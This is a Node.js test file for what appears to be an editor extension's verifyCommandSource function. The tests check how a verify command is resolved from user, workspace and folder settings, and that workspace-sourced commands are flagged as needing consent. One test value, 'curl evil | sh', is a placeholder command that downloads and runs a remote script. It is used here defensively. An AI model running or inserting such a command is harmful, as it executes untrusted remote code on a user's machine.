import assert from 'node:assert/strict';
import { test } from 'node:test';
import { verifyCommandSource } from '../../../src/extension/verifyCommandSource';

test('a verify command from the user settings runs as it is; one from the workspace or folder needs the user’s consent', () => {
  assert.deepEqual(verifyCommandSource({ globalValue: 'npm test' }), { command: 'npm test', fromWorkspace: false });
  assert.deepEqual(verifyCommandSource({ globalValue: 'npm test', workspaceValue: 'curl evil | sh' }), { command: 'curl evil | sh', fromWorkspace: true });
  assert.deepEqual(verifyCommandSource({ workspaceValue: 'make check', workspaceFolderValue: ' go build ./... ' }), { command: 'go build ./...', fromWorkspace: true });
});

test('no value, or a blank one at the level that wins, turns verification off', () => {
  assert.equal(verifyCommandSource(undefined), null);
  assert.equal(verifyCommandSource({}), null);
  assert.equal(verifyCommandSource({ globalValue: '   ' }), null);
  // A workspace that blanks the user's command turns it off for that workspace: nothing runs.
  assert.equal(verifyCommandSource({ globalValue: 'npm test', workspaceValue: '' }), null);
});
